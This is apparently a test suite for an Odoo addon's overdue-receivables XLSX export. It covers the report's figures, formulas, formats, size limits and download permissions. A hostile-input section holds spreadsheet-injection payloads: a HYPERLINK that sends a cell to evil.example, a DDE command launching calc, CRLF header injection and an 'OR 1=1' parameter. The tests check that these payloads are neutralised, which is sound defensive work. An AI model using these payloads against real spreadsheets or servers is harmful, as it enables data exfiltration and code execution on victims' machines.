"""“Overdue by segment” as XLSX: every figure, formula and text in the file, and who may download it."""

import doctest
import io
import re
import zipfile
from datetime import date, datetime, timedelta
from unittest.mock import patch

from openpyxl import load_workbook

from odoo import fields
from odoo.exceptions import UserError
from odoo.tests import HttpCase, new_test_user, tagged

from ..report import (
    overdue_segments,
    overdue_xlsx,
    overdue_xlsx_details,
    xlsx_text,
    xlsx_writer,
)
from ..report.overdue_xlsx import LEVELS
from ..report.xlsx_text import clean_sheet_name, clean_text, spreadsheet_format
from .common import T
from .test_overdue_report import OverdueCommon
from .xlsx_formulas import Formulas

ROUTE = "/credit_risk_matrix/overdue_xlsx"
SHEETS = [
    "Overdue by segment",
    "Category",
    "Grade",
    "Ageing",
    "Salesperson",
    "Country",
    "Customers",
    "Items",
]
#: row numbers on a segment's sheet, from 1
TOTAL, HEADER, FIRST = 4, 5, 6
#: formulas that the file may hold, with cells and ranges written as A
FORMULAS = {
    "=SUM(A)",
    "=SUBTOTAL(109,A)",
    "=A",
    "=ROUND(A-SUM(A),2)",
    '=IF(OR(A<=0,A<0,A>A),"",A/A)',
    '=IF(A<=0,"",A/A)',
    "=IF(A>0,A,0)",
}
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    '"quoted" & <b>bold</b>',
    "first\nsecond",
    "[]:*?/\\",
    "'apostrophe",
    "x" * 300,
    "_x0041_",
    "{=1}",
    "12345",
    "https://evil.example",
    "\x0bvertical\x1f",
    "=cmd|'/C calc'!A0",
]


class OverdueXlsxCommon(OverdueCommon):
    @classmethod
    def make(cls, as_of=T, company=None, **kwargs):
        """Return the name and the content of the file."""
        return cls.env["credit.overdue.xlsx"]._make(company or cls.company, as_of, **kwargs)

    @classmethod
    def open_book(cls, content, **kwargs):
        return load_workbook(io.BytesIO(content), **kwargs)

    @classmethod
    def make_books(cls, **kwargs):
        """Return the file with its formulas and with its cached results."""
        content = cls.make(**kwargs)[1]
        return cls.open_book(content), cls.open_book(content, data_only=True)

    @classmethod
    def column(cls, sheet, label):
        """Return the number of the column with this header."""
        return next(cell.column for cell in sheet[HEADER] if cell.value == label)

    @classmethod
    def rows(cls, sheet):
        """Return the lines of a segment's sheet as dictionaries by header."""
        labels = [cell.value for cell in sheet[HEADER]]
        lines = sheet.iter_rows(min_row=FIRST, values_only=True)
        return [dict(zip(labels, line, strict=True)) for line in lines if line[1] is not None]


@tagged("post_install", "-at_install")
class TestOverdueXlsx(OverdueXlsxCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.customers = cls.make_ledger()
        cls.customers[0].write({"country_id": cls.env.ref("base.be").id, "user_id": cls.env.uid})
        cls.refresh()
        cls.make_due(cls.make_customer("Newcomer"), 12, 1.01)

    def test_sheets(self):
        book, _values = self.make_books()
        self.assertEqual(book.sheetnames, SHEETS)
        some = self.make_books(levels=["item", "grade"])[0]
        self.assertEqual(some.sheetnames, [SHEETS[0], "Grade", "Items"], "In their own order")
        self.assertEqual(self.make_books(levels=[])[0].sheetnames, SHEETS[:1])

    def test_every_formula_gives_its_cached_result(self):
        """A program that computes shows what a program that does not compute shows."""
        book, values = self.make_books()
        count = 0
        for sheet in book:
            formulas = Formulas(sheet)
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type != "f":
                        continue
                    count += 1
                    computed = formulas.compute(cell.value)
                    cached = values[sheet.title][cell.coordinate].value
                    where = f"{sheet.title}!{cell.coordinate} {cell.value}"
                    if computed == "":
                        self.assertIn(cached, (None, ""), where)
                    else:
                        self.assertAlmostEqual(computed, cached, 2, where)
        self.assertGreater(count, 100)

    def test_only_our_formulas(self):
        book, _values = self.make_books()
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        shape = re.sub(r"\$?[A-Z]+\$?\d+(:\$?[A-Z]+\$?\d+)?", "A", cell.value)
                        self.assertIn(shape, FORMULAS, f"{sheet.title}!{cell.coordinate}")

    def test_every_level_ties_to_the_ledger(self):
        balance = self.trial_balance()
        _book, values = self.make_books()
        for name in SHEETS[1:]:
            sheet = values[name]
            label = "Open amount" if name in ("Ageing", "Items") else "Total"
            column = self.column(sheet, label)
            with self.subTest(sheet=name):
                self.assertAlmostEqual(sheet.cell(TOTAL, column).value, balance, 2)
                lines = [row[label] for row in self.rows(sheet)]
                self.assertAlmostEqual(sum(lines), balance, 2)

    def test_tie_out_on_the_first_sheet(self):
        book, values = self.make_books()
        sheet = values[SHEETS[0]]
        facts = {row[0]: row[1] for row in sheet.iter_rows(min_row=4, max_row=18, values_only=True)}
        balance = self.trial_balance()
        self.assertEqual(facts["Company"], self.company.name)
        self.assertEqual(facts["As of"], datetime.combine(T, datetime.min.time()))
        self.assertEqual(facts["Made by"], self.env.user.name)
        self.assertEqual(facts["Currency"], self.company.currency_id.name)
        self.assertEqual(facts["Open items"], self.report().search_count([]))
        self.assertEqual(facts["Categories and grades as of"].date(), T)
        self.assertLess(abs(facts["Made on"] - datetime.now()), timedelta(days=2))
        self.assertAlmostEqual(facts["Total of the open items"], balance, 2)
        self.assertAlmostEqual(facts["Balance of the receivable accounts"], balance, 2)
        self.assertEqual(facts["Difference"], 0)
        row = next(r for r in range(1, 30) if sheet.cell(r, 1).value == "Difference")
        cell = book[SHEETS[0]].cell(row, 2)
        self.assertTrue(cell.value.startswith("=ROUND("))
        self.assertEqual(cell.number_format, "#,##0.00;[Red]-#,##0.00", "0.00 is shown, not a dash")

    def test_matrix(self):
        """All categories and grades of the policy, and what has no profile; both ways add up."""
        _book, values = self.make_books()
        sheet = values[SHEETS[0]]
        tops = [r for r in range(1, 60) if sheet.cell(r, 1).value == "Customer category"]
        self.assertEqual(len(tops), 3)
        for top, domain in zip(tops, ([], [("days_overdue", ">", 0)]), strict=False):
            labels = [sheet.cell(top, c).value for c in range(2, 7)]
            self.assertEqual(labels, ["High", "Moderate", "Low", "Without profile", "Total"])
            names = [sheet.cell(top + r, 1).value for r in range(1, 6)]
            self.assertEqual(set(names[:3]), {"Small", "Medium", "Large"})
            self.assertEqual(names[3:], ["Without profile", "Total"])
            groups = self.report()._read_group(
                domain, ["category_id", "grade_id"], ["residual:sum"]
            )
            for category, grade, amount in groups:
                row = names.index(category.name or "Without profile") + 1
                column = labels.index(grade.name or "Without profile") + 2
                self.assertAlmostEqual(sheet.cell(top + row, column).value, amount, 2)
            self.assertAlmostEqual(
                sheet.cell(top + 5, 6).value, self.sum_of(self.report(), domain), 2
            )

    def test_buckets_and_totals_of_a_line(self):
        book, values = self.make_books()
        _one, two = self.customers
        line = next(row for row in self.rows(values["Customers"]) if row["Customer"] == "Two")
        amounts = [line[f] for f in ("Not overdue", "1-30 days", "31-60 days", "61-90 days")]
        self.assertEqual(amounts, [0, -12.34, 0, -80])
        self.assertAlmostEqual(line["Over 90 days"], 333.33)
        self.assertAlmostEqual(line["Total"], 240.99)
        self.assertAlmostEqual(line["Overdue"], 240.99)
        self.assertEqual((line["Items"], line["Oldest (days overdue)"]), (3, 100))
        self.assertEqual(line["Category"], self.profile_of(two).category_id.name)
        sheet = book["Customers"]
        row = next(r for r in range(FIRST, 20) if sheet.cell(r, 1).value == "Two")
        self.assertEqual(sheet.cell(row, self.column(sheet, "Total")).value, f"=SUM(H{row}:L{row})")
        self.assertEqual(
            sheet.cell(row, self.column(sheet, "Overdue")).value, f"=SUM(I{row}:L{row})"
        )
        self.assertRegex(sheet.cell(TOTAL, 8).value, r"^=SUBTOTAL\(109,H6:H\d+\)$")

    def test_share_has_no_value_where_it_has_no_sense(self):
        _book, values = self.make_books()
        shares = {row["Customer"]: row["Overdue %"] for row in self.rows(values["Customers"])}
        self.assertEqual(shares["Two"], 1)
        self.assertAlmostEqual(shares["One"], 299.95 / 1300.05, 4)
        creditor = self.make_customer("Creditor")
        self.make_due(creditor, 5, 100, move_type="out_refund")
        self.make_due(creditor, -5, 40)
        lines = self.rows(self.make_books()[1]["Customers"])
        shares = {row["Customer"]: row["Overdue %"] for row in lines}
        self.assertIn(shares["Creditor"], (None, ""))

    def test_items(self):
        _book, values = self.make_books()
        rows = self.rows(values["Items"])
        self.assertEqual(len(rows), self.report().search_count([]))
        newcomer = next(row for row in rows if row["Customer"] == "Newcomer")
        self.assertEqual(newcomer["Due date"].date(), T - timedelta(days=12))
        self.assertEqual((newcomer["Days overdue"], newcomer["Age"]), (12, "1-30 days"))
        self.assertEqual((newcomer["Open amount"], newcomer["Overdue"]), (1.01, 1.01))
        self.assertEqual(newcomer["Category"], "Without profile")
        nobody = next(row for row in rows if row["Customer"] == "Without customer")
        self.assertEqual(nobody["Open amount"], 55.55)
        names = [row["Customer"].casefold() for row in rows]
        self.assertEqual(names, sorted(names))

    def test_segments_without_name(self):
        _book, values = self.make_books()
        for name, last in (
            ("Category", "Without profile"),
            ("Grade", "Without profile"),
            ("Salesperson", "Without salesperson"),
            ("Country", "Without country"),
            ("Customers", "Without customer"),
        ):
            self.assertEqual(next(iter(self.rows(values[name])[-1].values())), last)

    def test_past_date(self):
        balance = self.trial_balance(T - timedelta(days=35))
        _book, values = self.make_books(as_of=T - timedelta(days=35))
        sheet = values["Category"]
        total = sheet.cell(TOTAL, self.column(sheet, "Total")).value
        self.assertAlmostEqual(total, balance, 2)
        self.assertNotAlmostEqual(total, self.trial_balance(), 2)

    def test_nothing_open(self):
        book, values = self.make_books(as_of=date(2001, 1, 1))
        for name in SHEETS[1:]:
            if name != "Ageing":
                self.assertEqual(
                    values[name].cell(FIRST, 1).value, "Nothing was open on this date."
                )
        self.assertEqual(values["Items"].cell(TOTAL, 14).value, 0)
        self.assertEqual(book["Items"].auto_filter.ref, "A5:O6")

    # Looks

    def test_panes_filters_and_print(self):
        book, _values = self.make_books()
        for name in SHEETS[1:]:
            sheet = book[name]
            self.assertEqual(sheet.freeze_panes, "B6", name)
            self.assertTrue(sheet.auto_filter.ref.startswith("A5:"), name)
            self.assertEqual(sheet.page_setup.orientation, "landscape")
            self.assertTrue(sheet.print_title_rows.endswith("$5:$5"), name)
        self.assertTrue(book[SHEETS[0]].freeze_panes)

    def test_chart_of_the_ageing(self):
        book, _values = self.make_books()
        [chart] = book["Ageing"]._charts
        [series] = chart.series
        self.assertEqual(series.val.numRef.f, "Ageing!$D$6:$D$10")
        self.assertEqual(series.cat.strRef.f, "Ageing!$A$6:$A$10")
        labels = [book["Ageing"].cell(row, 1).value for row in range(FIRST, FIRST + 5)]
        self.assertEqual(
            labels, ["Not overdue", "1-30 days", "31-60 days", "61-90 days", "Over 90 days"]
        )

    def test_formats(self):
        book, _values = self.make_books()
        sheet = book["Items"]
        formats = {
            cell.value: sheet.cell(FIRST, cell.column).number_format for cell in sheet[HEADER]
        }
        self.assertEqual(formats["Open amount"], '#,##0.00;[Red]-#,##0.00;"–"')
        self.assertEqual(formats["Due date"], "mm/dd/yyyy")
        self.assertEqual(formats["Days overdue"], "#,##0")
        sheet = book["Category"]
        self.assertEqual(sheet.cell(FIRST, self.column(sheet, "Overdue %")).number_format, "0.0%")
        self.assertTrue(sheet.cell(HEADER, 1).font.bold)

    def test_digits_of_the_currencies(self):
        """Money has the digits of its own currency: the company's, and each document's."""
        yen = self.setup_other_currency("JPY", rates=[("2020-01-01", 10.0)], rounding=1.0)
        self.assertEqual(yen.decimal_places, 0)
        self.make_due(self.make_customer("Tokyo"), 5, 1000, currency_id=yen)
        sheet = self.make_books()[0]["Items"]
        row = next(r for r in range(FIRST, 30) if sheet.cell(r, 1).value == "Tokyo")
        foreign = sheet.cell(row, self.column(sheet, "Open in currency"))
        self.assertEqual((foreign.value, foreign.number_format), (1000, '#,##0;[Red]-#,##0;"–"'))
        own = sheet.cell(row, self.column(sheet, "Open amount"))
        self.assertEqual((own.value, own.number_format), (100, '#,##0.00;[Red]-#,##0.00;"–"'))

    def test_language_of_the_reader(self):
        self.env["res.lang"]._activate_lang("nl_NL")
        xlsx = self.env["credit.overdue.xlsx"].with_context(lang="nl_NL")
        book = self.open_book(xlsx._make(self.company, T)[1])
        sheet = book.worksheets[-1]
        self.assertEqual(sheet.cell(FIRST, 5).number_format, "dd-mm-yyyy")
        self.assertIsInstance(sheet.cell(FIRST, 5).value, datetime)

    def test_properties(self):
        book, _values = self.make_books()
        self.assertEqual(book.properties.title, "Overdue by segment")
        self.assertEqual(book.properties.creator, self.env.user.name)

    # Size

    def test_large_book_has_the_same_cells(self):
        _book, small = self.make_books()
        with patch.object(overdue_xlsx, "LARGE_BOOK", 0):
            _book, large = self.make_books()
        for sheet in small:
            for row in sheet.iter_rows():
                for cell in row:
                    other = large[sheet.title][cell.coordinate]
                    if isinstance(cell.value, datetime) and cell.value.date() > T:
                        continue  # when it was made
                    self.assertEqual(cell.value, other.value, f"{sheet.title}!{cell.coordinate}")
                    self.assertEqual(cell.number_format, other.number_format)

    def test_too_many_items_for_a_sheet(self):
        with patch.object(overdue_xlsx_details, "MAX_ROWS", 6), self.assertRaises(UserError):
            self.make()
        with patch.object(overdue_xlsx_details, "MAX_ROWS", 6):
            self.make(levels=[level for level in LEVELS if level != "item"])

    def test_statements_do_not_grow_with_items(self):
        def count():
            self.env.flush_all()
            self.env.invalidate_all()
            before = self.env.cr.sql_log_count
            self.make()
            return self.env.cr.sql_log_count - before

        count()
        few = count()
        for days in range(10):
            self.make_due(self.make_customer(f"Customer {days}"), days)
        self.assertLessEqual(count(), few)
        self.assertLess(few, 60)


@tagged("post_install", "-at_install")
class TestHostileXlsx(OverdueXlsxCommon):
    """Whatever stands in the database, the file holds it as text."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        for index, name in enumerate(HOSTILE):
            partner = cls.make_customer(name, email=False)
            cls.make_due(partner, 10 * index, 100, ref=name)
        cls.env.user.name = "=1+1"
        cls.company.name = '=[A]:B*?/\\\r\nSet-Cookie: x=1 "é" & Sons'
        user = new_test_user(cls.env, login="hostile", name="@SUM(1)", groups="base.group_user")
        partner.user_id = user
        category = cls.env.ref("credit_risk_matrix.category_small")
        category.name = '=HYPERLINK("http://evil.example")'
        cls.env.ref("credit_risk_matrix.grade_high").name = "-2+3"
        cls.refresh()

    def test_texts_stay_texts(self):
        content = self.make()[1]
        book = self.open_book(content)
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        shape = re.sub(r"\$?[A-Z]+\$?\d+(:\$?[A-Z]+\$?\d+)?", "A", cell.value)
                        self.assertIn(shape, FORMULAS, f"{sheet.title}!{cell.coordinate}")
                    self.assertIsNone(cell.hyperlink)
        for name, label in (
            ("Customers", "Customer"),
            ("Items", "Customer"),
            ("Items", "Reference"),
        ):
            texts = {row[label] for row in self.rows(book[name])}
            for hostile in HOSTILE:
                if hostile == "_x0041_":
                    continue  # read back by the program as it was, by openpyxl with an escape
                self.assertIn(clean_text(hostile).strip(), {str(t).strip() for t in texts if t})

    def test_names_that_look_like_formulas_keep_their_quote(self):
        sheet = self.open_book(self.make()[1])["Customers"]
        cells = {sheet.cell(row, 1).value: sheet.cell(row, 1) for row in range(FIRST, FIRST + 19)}
        for name in ("=1+1", "+1", "-1", "@SUM(A1)"):
            self.assertEqual(cells[name].data_type, "s")
            self.assertTrue(cells[name].quotePrefix, name)
        self.assertEqual(cells["12345"].data_type, "s")

    def test_no_links_in_the_file(self):
        with zipfile.ZipFile(io.BytesIO(self.make()[1])) as archive:
            names = archive.namelist()
            self.assertFalse([name for name in names if "external" in name.lower()])
            for name in names:
                text = archive.read(name)
                self.assertNotIn(b'TargetMode="External"', text)
                self.assertNotIn(b"<hyperlink", text)

    def test_file_name(self):
        name, _content = self.make()
        self.assertRegex(name, r"^[\w\-. ]+\.xlsx$")
        self.assertTrue(name.endswith("Sons 2026-06-30.xlsx"), name)

    def test_sheet_names(self):
        taken = set()
        for name in [*HOSTILE, *HOSTILE, "", "History", "[]", "'", "Items", "items"]:
            sheet = clean_sheet_name(name, taken)
            self.assertTrue(0 < len(sheet) <= 31, sheet)
            self.assertFalse(set("[]:*?/\\") & set(sheet), sheet)
            self.assertFalse(sheet.startswith("'") or sheet.endswith("'"), sheet)
            self.assertNotIn(sheet.lower(), {*(other.lower() for other in taken), "history"})
            taken.add(sheet)

    def test_hostile_sheet_names_of_a_translation(self):
        """A translator's slash or bracket in a sheet's name does not break the file."""
        real = type(self.env)._

        def translate(env, source, *args, **kwargs):
            if isinstance(source, str) and source in ("Category", "Grade", "Ageing"):
                return "Age: [1/2] 'of' " + "é" * 40
            return real(env, source, *args, **kwargs)

        with patch.object(type(self.env), "_", translate):
            book = self.open_book(self.make()[1])
        self.assertEqual(len(book.sheetnames), len(SHEETS))
        [chart] = book.worksheets[3]._charts
        self.assertIn(book.sheetnames[3].replace("'", "''"), chart.series[0].val.numRef.f)

    def test_examples(self):
        for module in (overdue_segments, xlsx_text, xlsx_writer):
            result = doctest.testmod(module)
            self.assertGreater(result.attempted, 0)
            self.assertEqual(result.failed, 0)

    def test_text_limits(self):
        self.assertEqual(len(clean_text("x" * 40000)), 32767)
        self.assertEqual(clean_text("a\x00\ufffeb\u2028c"), "ab c")

    def test_formats_of_languages(self):
        for pattern, expected in (
            ("%d/%m/%Y", "dd/mm/yyyy"),
            ("%d.%m.%Y", "dd.mm.yyyy"),
            ("%Y-%m-%d", "yyyy-mm-dd"),
            ("%-d %b %y", "d mmm yy"),
            ('%d"%m', "ddmm"),
            ("%H:%M:%S", "hh:mm:ss"),
            ("%j", ""),
        ):
            self.assertEqual(spreadsheet_format(pattern), expected)

    def test_very_old_dates(self):
        """Before 1900 a spreadsheet has no dates: the date is written as a text."""
        partner = self.make_customer("Old")
        invoice = self.make_due(partner, 5)
        self.receivable_of(invoice).date_maturity = date(1789, 7, 14)
        rows = self.rows(self.open_book(self.make()[1])["Items"])
        self.assertEqual(
            next(row["Due date"] for row in rows if row["Customer"] == "Old"), "1789-07-14"
        )


@tagged("post_install", "-at_install")
class TestOverdueDownload(OverdueXlsxCommon, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.make_ledger()
        cls.refresh()

    def login(self, group, **kwargs):
        user = self.make_user(group, **kwargs)
        self.authenticate(user.login, user.login)
        return user

    def download(self, **params):
        query = "&".join(f"{name}={value}" for name, value in params.items())
        return self.url_open(f"{ROUTE}?{query}", allow_redirects=False)

    def test_controller_and_manager(self):
        for group in ("controller", "manager"):
            self.login(group)
            response = self.download(date=fields.Date.to_string(T), company_id=self.company.id)
            self.assertEqual(response.status_code, 200)
            self.assertEqual(
                response.headers["Content-Type"],
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            )
            self.assertIn("attachment;", response.headers["Content-Disposition"])
            self.assertIn("2026-06-30.xlsx", response.headers["Content-Disposition"])
            self.assertEqual(response.headers["Cache-Control"], "no-store")
            sheet = self.open_book(response.content, data_only=True)["Category"]
            total = sheet.cell(TOTAL, self.column(sheet, "Total")).value
            self.assertAlmostEqual(total, self.trial_balance(), 2)

    def test_defaults(self):
        self.login("controller")
        book = self.open_book(self.url_open(ROUTE).content)
        self.assertEqual(book.sheetnames, SHEETS)

    def test_levels(self):
        self.login("controller")
        book = self.open_book(self.download(levels="country,ageing").content)
        self.assertEqual(book.sheetnames, [SHEETS[0], "Ageing", "Country"])
        self.assertEqual(self.open_book(self.download(levels="").content).sheetnames, SHEETS[:1])

    def test_who_is_refused(self):
        for group, kwargs in (("user", {}), (None, {"login": "nobody_at_all"})):
            self.login(group, **kwargs)
            self.assertEqual(self.download().status_code, 403, group)
        portal = new_test_user(self.env, login="portal_user", groups="base.group_portal")
        self.authenticate(portal.login, portal.login)
        self.assertEqual(self.download().status_code, 403)
        self.authenticate(None, None)
        response = self.download()
        self.assertEqual(response.status_code, 303)
        self.assertIn("/web/login", response.headers["Location"])

    def test_another_company_is_refused(self):
        other = self.setup_other_company()["company"]
        self.login("controller")
        for company_id in (other.id, 0, "x", "1 OR 1=1"):
            self.assertEqual(self.download(company_id=company_id).status_code, 403, company_id)

    def test_bad_questions(self):
        self.login("controller")
        for params in (
            {"date": "soon"},
            {"date": "2026-02-30"},
            {"levels": "passwords"},
            {"levels": "category,_make"},
        ):
            self.assertEqual(self.download(**params).status_code, 400, params)

    def test_only_get(self):
        self.login("controller")
        self.assertEqual(self.url_open(ROUTE, data={"date": "2026-06-30"}).status_code, 405)

    def test_hostile_company_name_in_the_header(self):
        self.company.name = 'Evil"\r\nSet-Cookie: x=1\r\n\r\n<html>; filename=x.exe'
        self.login("controller")
        response = self.download()
        self.assertEqual(response.status_code, 200)
        self.assertNotIn("x=1", response.headers.get("Set-Cookie", ""))
        self.assertNotRegex(response.headers["Content-Disposition"], r'["\r\n<>]')
        self.assertTrue(response.headers["Content-Disposition"].endswith(".xlsx"))
